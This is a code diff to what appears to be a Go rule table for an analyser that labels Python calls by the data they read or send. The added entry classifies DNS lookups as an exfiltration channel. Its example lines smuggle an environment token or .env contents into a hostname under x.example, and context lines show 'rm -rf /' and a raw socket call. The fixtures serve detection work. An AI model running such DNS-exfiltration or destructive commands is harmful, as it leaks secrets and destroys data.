@@ -354,6 +354,11 @@ system("rm -rf /") !> -` + "\n"},
 		`import http.client; c = http.client.HTTPSConnection("x.example") !> send:http x.example` + "\n"},
 	{name: "socket.create_connection", do: aConnect, kw: "address", opt: "raw", ret: rSocket, ex: `import socket; socket.create_connection(("203.0.113.9", 9001)) => send:raw 203.0.113.9` + "\n" +
 		`import socket; socket.gethostname() !> -` + "\n"},
+	// A name looked up goes to the resolver and on to the domain's name servers: text in it
+	// leaves the machine (a DNS channel), whatever is done with the answer.
+	{name: "socket.gethostbyname|socket.gethostbyname_ex|socket.getaddrinfo|socket.gethostbyaddr|socket.getfqdn|dns.resolver.resolve|dns.resolver.query|dns.resolver.Resolver#resolve", do: aFetch, ex: `import socket, os; socket.gethostbyname(os.environ["TOKEN"] + ".x.example") => var:send TOKEN` + "\n" +
+		`import socket; socket.gethostbyname(open(".env").read()[:30].encode().hex() + ".x.example") => read:send .env` + "\n" +
+		`import socket; socket.gethostbyname("example.com") !> var:send TOKEN` + "\n"},
 	{name: "socket.socket", ret: rSocket},
 	// An archive's member read by name is judged by that name, as tar -xO's members are.
 	{name: "tarfile.open|tarfile.TarFile|zipfile.ZipFile|shutil._unpack_tarfile", ret: rObjOf, opt: "archive"},
